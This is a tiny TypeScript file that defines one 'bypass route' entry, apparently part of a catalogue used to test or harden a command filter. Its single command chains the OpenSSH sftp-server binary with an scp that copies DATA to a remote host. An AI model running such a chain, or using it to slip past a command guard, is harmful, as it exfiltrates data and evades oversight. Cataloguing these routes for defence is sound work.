import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: behind the server of sftp',
  source: 'export by the server itself instead of its subsystem',
  words: ['/usr/lib/openssh/sftp-server -R; scp DATA host:'],
};
